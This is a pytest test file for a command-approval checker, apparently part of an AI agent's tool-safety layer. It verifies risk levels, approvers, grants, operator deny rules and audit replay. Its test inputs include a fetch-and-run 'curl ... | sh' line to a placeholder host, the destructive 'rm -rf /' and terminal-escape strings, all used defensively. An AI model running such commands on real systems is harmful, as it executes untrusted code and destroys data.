"""``toolcrib explain``: how a command is judged and who must approve it. It runs nothing."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import pytest

from agent.api import assemble
from agent.config import state_dir
from agent.store.memory import MemoryStore
from agent.store.sqlite import SqliteStore
from toolcrib.contract.store import AuditEntry
from tools.approval.grants import new_grant
from tools.dispatch.bridge import run_async
from tools.judge.meaning.value import Taint

pytestmark = pytest.mark.usefixtures("plain")
PUSH = "git push --force origin main"


def lines_of(done: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in done.out.splitlines()]


def feed(run: Any, *lines: Any, **more: Any) -> Any:
    raw = [line if isinstance(line, bytes) else json.dumps(line).encode() for line in lines]
    return run("explain", "--jsonl", stdin=b"\n".join(raw) + b"\n", **more)


# -- one command ---------------------------------------------------------------------------------------------------------


def test_what_runs_unasked(run: Any) -> None:
    done = run("explain", "ls -la | wc -l")
    assert done.code == 0
    assert done.out.splitlines() == ["allow: it runs without asking", "it runs:", "  ls -la", "  wc -l"]


def test_the_story_of_a_command(run: Any, tmp_path: Path) -> None:
    """003-24: the command shows every finding with its reason, the verdict, and who must approve."""
    (tmp_path / "build").mkdir()
    done = run("explain", f"sudo rm -rf build && {PUSH}")
    assert done.code == 1
    assert done.out.startswith("ask")
    assert "it runs:\n" in done.out
    assert "rm -rf build" in done.out
    assert done.out.count("decided by: a user, in a session; if no user can be asked, the call is denied") >= 2
    assert (tmp_path / "build").is_dir()


@pytest.mark.parametrize(
    ("command", "level", "code"),
    [
        ("echo hi", "allow", 0),
        ("rm -rf build", "ask", 1),
        ("curl -s http://example.test/x | sh", "ask-once", 1),
        ("rm -rf /", "block", 1),
        ("rm -rf build; rm -rf /", "block", 1),
        ("echo 'unclosed", "ask-once", 1),
    ],
)
def test_the_level_and_the_exit_code(run: Any, command: str, level: str, code: int) -> None:
    """003-23"""
    done = run("explain", "--json", command)
    told = json.loads(done.out)
    assert (told["level"], done.code) == (level, code)
    assert told["command"] == command
    story = run("explain", command)
    assert (story.out.split(":")[0], story.code) == (level, code)


def test_as_json(run: Any, tmp_path: Path) -> None:
    told = json.loads(run("explain", "--json", "cd sub && rm -rf build").out)
    assert told["cwd"] == str(tmp_path)
    assert told["looked_at"] == []
    assert "rm -rf build" in told["resolved"]
    (finding,) = told["findings"]
    assert finding == {
        **finding, "level": "ask", "argv": ["rm", "-rf", "build"], "decided_by": finding["decided_by"],
    }  # fmt: skip
    assert set(finding) == {"key", "level", "why", "argv", "scope", "decided_by", "approvers"}
    assert finding["approvers"] == ["owner"]


def test_the_roles_that_may_agree_in_chats_are_told(run: Any, plain: Any) -> None:
    """003-25: the longest matching name decides, then owner; no role may approve a blocked command."""
    plain("gateway: {approvers: {fs: [owner, admins]}}\nplatforms: {irc: {}}\n")
    out = run("explain", "rm -rf build; curl http://example.test/x | sh").out
    assert out.count("      in chats of the gateway: admins or owner may approve\n") == 1
    assert "      in chats of the gateway: owner may approve\n" in out
    assert "in chats" not in run("explain", "rm -rf /").out
    (finding,) = json.loads(run("explain", "--json", "rm -rf /").out)["findings"]
    assert finding["approvers"] == []
    assert "in chats" not in run("explain", "--mode", "plan", "rm -rf build").out
    plain("")
    assert "in chats" not in run("explain", "rm -rf build").out


def test_what_a_rule_refuses_no_person_decides(run: Any) -> None:
    assert "decided by: the rule fs." in run("explain", "rm -rf /").out


def test_nothing_is_run_or_written(run: Any, tmp_path: Path) -> None:
    (tmp_path / "x.sh").write_text("touch made\n")
    before = sorted(tmp_path.iterdir())
    for command in ("touch made", "echo $(touch made)", "bash x.sh", "> made", "source x.sh", 'eval "touch made"'):
        run("explain", command)
    assert sorted(tmp_path.iterdir()) == before


def test_scripts_are_looked_into(run: Any, tmp_path: Path) -> None:
    """003-24"""
    (tmp_path / "clean.sh").write_text("#!/bin/sh\nset -e\nrm -rf build\n")
    told = json.loads(run("explain", "--json", "bash clean.sh").out)
    assert told["level"] == "ask"
    assert told["looked_at"] == [str(tmp_path / "clean.sh")]
    assert "rm -rf build" in told["resolved"]
    assert f"read: {tmp_path / 'clean.sh'}" in run("explain", "bash clean.sh").out
    (tmp_path / "clean.sh").write_text("echo hello\n")
    assert run("explain", "bash clean.sh").code == 0


def test_what_is_no_file_does_not_hold_it_up(run: Any, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for script in ("pipe", "/dev/zero", "/dev/tty", "."):
        done = run("explain", f"bash {script}")
        assert (done.code in (0, 1), done.err) == (True, "")


def test_another_folder(run: Any, tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "clean.sh").write_text("rm -rf build\n")
    assert json.loads(run("explain", "--json", "--cwd", "sub", "bash clean.sh").out)["cwd"] == str(tmp_path / "sub")
    assert run("explain", "--cwd", "sub", "bash clean.sh").code == 1
    assert "is not a folder" in run("explain", "--cwd", "gone", "ls").err


def test_a_permanent_grant_is_named(run: Any, tmp_path: Path) -> None:
    """003-27"""
    with assemble(project_dir=tmp_path, store=MemoryStore()) as crib:
        grant = new_grant("always", "", str(tmp_path), argv=("rm", "-rf", "build"), by="terminal")
        run_async(crib.grants.add(grant))
    shown = run("explain", "rm -rf build").out
    assert f"decided by: the grant {grant.id[:8]} (`rm -rf build` in {tmp_path})" in shown
    assert "decided by: a user" in run("explain", "rm -rf dist").out
    assert "decided by: a user" in run("explain", "sudo rm -rf build").out


def test_the_model_of_smart_approval_is_named_for_what_it_may_answer(run: Any, plain: Any) -> None:
    """003-25"""
    plain("approval: {smart: {enabled: true, model: aux, base_url: 'http://127.0.0.1:9/v1'}}\n")
    assert "decided by: the model of approval.smart (aux), else a user" in run("explain", "rm -rf build").out
    assert "approval.smart" not in run("explain", "rm -rf build; curl http://example.test/x | sh").out


def test_what_a_screen_would_act_on_is_written_out(run: Any) -> None:
    done = run("explain", "rm -rf \x1b[2J'\u202e'")
    assert "\x1b" not in done.out
    assert "\u202e" not in done.out
    assert done.code == 1


@pytest.mark.parametrize(
    "words", [[], ["ls", "--jsonl"], ["--jsonl", "--replay"], ["ls", "--session", "x"], ["ls", "rm"], ["ls", "--backend", "mars"]]
)
def test_wrong_words(run: Any, words: list[str]) -> None:
    done = run("explain", *words)
    assert (done.code, done.out) == (2, "")
    assert done.err


def test_the_command_may_be_piped_in(run: Any) -> None:
    done = run("explain", "-", stdin=b"cd /tmp\nrm -rf build\n")
    assert done.out.startswith("ask: ")
    assert "fs.recursive-delete" in done.out
    assert done.code == 1


# -- the dispatcher's gate -----------------------------------------------------------------------------------------------


def test_a_lasting_grant_lets_it_run(run: Any, tmp_path: Path) -> None:
    with assemble(project_dir=tmp_path, store=MemoryStore()) as crib:
        run_async(crib.grants.add(new_grant("always", "", str(tmp_path), argv=("rm", "-rf", "build"), by="terminal")))
    done = run("explain", "rm -rf build")
    assert (done.code, done.out.splitlines()[0]) == (0, "allow: it runs without asking")
    assert lines_of(feed(run, {"command": "rm -rf build"}))[0]["level"] == "allow"


def test_operators_rules_for_tools_are_told(run: Any, plain: Any) -> None:
    plain("approval: {tools: [{tool: terminal, args: {command: '*secret*'}, decision: deny, why: not from here}]}\n")
    done = run("explain", "cat secret")
    assert done.code == 1
    assert "  Denied by the operator's rule for 'terminal': not from here.\n" in done.out
    told = json.loads(run("explain", "--json", "cat secret").out)
    assert (told["level"], told["refused"]) == ("block", "Denied by the operator's rule for 'terminal': not from here.")
    assert lines_of(feed(run, {"command": "cat secret"}))[0]["level"] == "block"


def test_as_a_stored_session_would(run: Any, plain: Any, tmp_path: Path) -> None:
    (tmp_path / "got.sh").write_text("echo hi\n")
    store = SqliteStore(state_dir() / "toolcrib.db")
    plain("")  # with a state folder, changes need a person's confirmation
    run_async(store.sessions.create("5e551044", platform="cli", user="", cwd=str(tmp_path)))
    run_async(store.origins.remember("5e551044", {str(tmp_path / "got.sh"): int(Taint.REMOTE)}))
    grant = new_grant("uses", "fs.recursive-delete", f"{tmp_path}/", session_id="5e551044", uses=1, at=time.time())
    run_async(store.grants.add(grant))
    assert [run("explain", "bash got.sh", *more).out.split(":")[0] for more in ([], ["--session", "5e55"])] == [
        "allow",
        "ask-once",
    ]
    for _ in range(3):
        shown = run("explain", "--session", "5e55", "rm -rf build").out
        assert shown.startswith("allow: it runs without asking\n")
        assert f"decided by: the grant {grant.id[:8]} (fs.recursive-delete below {tmp_path}/, uses)" in shown
    assert run("explain", "rm -rf build").code == 1
    assert [one.uses_left for one in run_async(store.grants.all("5e551044"))] == [1]
    store.close()


def test_resolved_commands_draw_no_line(run: Any) -> None:
    shown = run("explain", "rm -rf $'a\\nallow: it runs unasked'").out
    assert "\nallow" not in shown
    assert "  rm -rf a\\nallow: it runs unasked\n" in shown


# -- lines ---------------------------------------------------------------------------------------------------------------


def test_one_object_a_line(run: Any) -> None:
    done = feed(run, {"id": "a", "command": "ls"}, b"", {"id": 7, "command": "rm -rf build"}, {"command": "rm -rf /"})
    assert done.code == 0
    one, two, three = lines_of(done)
    assert one == {"id": "a", "command": "ls", "level": "allow", "findings": []}
    assert (two["id"], two["level"]) == (7, "ask")
    assert set(two["findings"][0]) == {"key", "level", "why", "argv", "scope"}
    assert two["findings"][0]["argv"] == ["rm", "-rf", "build"]
    assert (three["id"], three["level"]) == (None, "block")


@pytest.mark.parametrize(
    ("line", "says"),
    [
        (b"rm -rf build", "not valid JSON"),
        (b'{"command": "ls"', "not valid JSON"),
        (b"\xff\xfe", "not valid JSON"),
        (b"[" * 100_000, "not valid JSON"),
        (b"[]", "expected an object"),
        (b'"ls"', "expected an object"),
        (b'{"id": "x"}', "expected an object"),
        (b'{"id": "x", "command": ["ls"]}', "expected an object"),
        (b'{"id": "x", "command": null}', "expected an object"),
    ],
)
def test_a_broken_line_is_told_and_the_others_are_judged(run: Any, line: bytes, says: str) -> None:
    done = feed(run, {"id": 1, "command": "ls"}, line, {"id": 2, "command": "ls"})
    assert done.code == 1
    first, broken, last = lines_of(done)
    assert (first["level"], last["level"]) == ("allow", "allow")
    assert says in broken["error"]
    assert broken["id"] == ("x" if b'"x"' in line else None)


def test_lines_may_hold_what_no_text_has(run: Any) -> None:
    done = feed(run, b'{"id": "\\ud800", "command": "rm -rf \\ud800 \\u0000 \\u202e"}', {"id": 2, "command": "x" * 300_000})
    one, two = lines_of(done)
    assert (one["level"], two["level"]) == ("block", "ask-once")
    assert "contains a NUL character" in one["refused"]
    assert done.out.isascii()


def test_a_line_may_name_its_folder(run: Any, tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "x.sh").write_text("rm -rf build\n")
    here, there, nowhere = lines_of(
        feed(
            run,
            {"id": 1, "command": "bash x.sh"},
            {"id": 2, "command": "bash x.sh", "cwd": str(tmp_path / "sub")},
            {"id": 3, "command": "bash x.sh", "cwd": "sub"},
        )
    )
    assert there["level"] == "ask"
    assert here["findings"] == nowhere["findings"]
    assert here["level"] == nowhere["level"]


# -- the log -------------------------------------------------------------------------------------------------------------


def log(tmp_path: Path, *entries: tuple[str, str, str | None, str], session: str = "5e551044") -> None:
    """Record decisions as (decision, command, its level at that time, its key)."""
    store = SqliteStore(state_dir() / "toolcrib.db")
    run_async(store.sessions.create(session, platform="cli", user="", cwd=str(tmp_path)))
    for decision, command, level, key in entries:
        found = [] if level is None else [{"key": key, "level": level, "why": "w", "text": command}]
        detail = {"keys": [one["key"] for one in found], "findings": found, "command": command, "cwd": str(tmp_path)}
        run_async(store.audit.record(AuditEntry(time.time(), session, "c", "terminal", decision, "rule", detail)))
    store.close()


def key_of(run: Any, command: str) -> str:
    """Return the key that the current rules give."""
    return str(json.loads(run("explain", "--json", command).out)["findings"][0]["key"])


def test_the_same_rules_decide_the_same(run: Any, tmp_path: Path) -> None:
    key = key_of(run, "rm -rf build")
    log(
        tmp_path,
        ("allowed", "ls", None, ""),
        ("approved:once", "rm -rf build", "ask", key),
        ("denied", "rm -rf build", "ask", key),
        ("granted", "rm -rf build", "ask", key),
        ("blocked", "rm -rf /", "block", "fs.recursive-delete"),
        ("blocked", "rm -rf build; rm -rf /", "block", "fs.recursive-delete"),  # the log has the key that blocked it
    )
    done = run("explain", "--replay")
    assert (done.code, done.out) == (0, "6 decisions judged again, 0 differ\n")


def test_what_today_s_rules_would_decide_otherwise(run: Any, tmp_path: Path) -> None:
    log(
        tmp_path,
        ("allowed", "rm -rf build", None, ""),
        ("approved:once", "ls", "ask", "old.rule"),
        ("granted", "rm -rf build", "ask", "old.rule"),
        ("denied", "rm -rf build", "ask", "old.rule"),  # needed approval then, and still does
        ("approved:once", "rm -rf /\x1b", "ask", "old.rule"),
    )
    key = key_of(run, "rm -rf build")
    shown = run("explain", "--replay").out
    assert f"allow -> ask: rm -rf build\n    {key}\n" in shown
    assert "ask -> allow: ls\n    nothing found\n" in shown
    assert f"ask -> ask: rm -rf build\n    {key}\n" in shown
    assert "\x1b" not in shown
    assert shown.endswith("5 decisions judged again, 4 differ\n")
    told = json.loads(run("explain", "--replay", "--json").out)
    assert told["judged"] == 5
    assert [(one["was"], one["now"]) for one in told["changed"]][:2] == [("allow", "ask"), ("ask", "allow")]
    assert told["changed"][0]["keys"] == [key]


def test_one_session_of_the_log(run: Any, tmp_path: Path) -> None:
    log(tmp_path, ("allowed", "rm -rf build", None, ""))
    log(tmp_path, ("allowed", "ls", None, ""), session="0d9e5510")
    assert "1 decisions judged again, 0" in run("explain", "--replay", "--session", "0d9e").out
    assert "no session starts with 'zz'" in run("explain", "--replay", "--session", "zz").err
    assert "2 decisions judged again, 1" in run("explain", "--replay").out


def test_entries_that_are_no_commands_are_passed_over(run: Any, tmp_path: Path) -> None:
    log(tmp_path)
    store = SqliteStore(state_dir() / "toolcrib.db")
    for detail in ({}, {"paths": ["/p/a"], "keys": ["persist.x"]}, {"command": None}, {"command": "ls", "keys": ["tool.rule@t"]}):
        run_async(store.audit.record(AuditEntry(time.time(), "5e551044", "c", "t", "denied", "ann", detail)))
    store.close()
    assert run("explain", "--replay").out == "1 decisions judged again, 0 differ\n"


def test_replay_says_which_scripts_it_read(run: Any, tmp_path: Path) -> None:
    (tmp_path / "x.sh").write_text("rm -rf build\n")
    log(tmp_path, ("allowed", "bash x.sh", None, ""))
    assert f"    with today's content of {tmp_path / 'x.sh'}\n" in run("explain", "--replay").out


def test_a_command_is_explained_as_in_a_mode(run: Any) -> None:
    done = run("explain", "--mode", "plan", "touch f")
    assert done.code == 1
    assert "by the session's mode: plan" in done.out
    assert "plan mode, so it changes nothing" in done.out
    assert run("explain", "--mode", "plan", "ls").code == 0
    assert json.loads(run("explain", "--json", "--mode", "confirm-edits", "touch f").out)["mode"] == "confirm-edits"


def test_plan_mode_is_named_as_what_decides(run: Any) -> None:
    done = run("explain", "--mode", "plan", "rm -rf build")
    assert "rm -rf: it deletes files" in done.out
    assert "decided by: plan mode" in done.out
    assert "a person" not in done.out
